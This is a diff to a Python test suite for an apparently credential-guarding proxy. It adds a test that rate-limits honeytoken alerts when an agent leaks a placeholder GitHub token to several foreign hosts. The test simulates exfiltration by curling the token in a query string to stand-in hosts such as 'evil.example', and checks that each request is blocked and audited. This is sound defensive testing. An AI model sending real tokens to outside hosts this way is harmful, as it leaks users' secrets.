@@ -34,6 +34,7 @@ from appliance.placeholders import placeholder_env
 from appliance.sessions import AccessMode, Desired
 from appliance.store import Store
 from appliance.usage import Usage
+from proxy import controls as controls_module
 from proxy.certs import CertStore, load_or_create_ca
 from proxy.config import ProxyConfig, Upstream
 from proxy.controls import Controls, ControlSettings
@@ -279,6 +280,22 @@ async def test_a_placeholder_sent_to_a_foreign_host_is_blocked_and_alerts(rig: R
     assert "evil.example" in session.alert and session.desired is Desired.RUNNING
     events = [e for e in rig.store.session_events(sid) if e.kind == "honeytoken"]
     assert events and events[0].payload["host"] == "evil.example"
+
+
+async def test_a_leak_to_host_after_host_writes_a_bounded_number_of_events(
+        rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Each alert's cause is written once a minute; an agent leaking its placeholder to a
+    new host on every request would write an event each. A session's alerts write so many
+    events a minute (2 here, 10 shipped); every request is still refused and audited."""
+    monkeypatch.setattr(controls_module, "ALERTS_PER_MINUTE", 2)
+    sid, _ = auth = rig.session("spiller")
+    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
+    for host in ROAMING[:4]:
+        assert (await rig.curl(auth, f"https://{host}/?k={leak}"))[0] == 403
+    events = [e for e in rig.store.session_events(sid) if e.kind == "honeytoken"]
+    assert [e.payload["host"] for e in events] == list(ROAMING[:2])
+    audit = [r for r in rig.audit() if getattr(r, "decision", "") == "honeytoken"]
+    assert len(audit) == 4
 
 
 async def test_a_honeytoken_can_stop_its_session(rig: Rig) -> None:
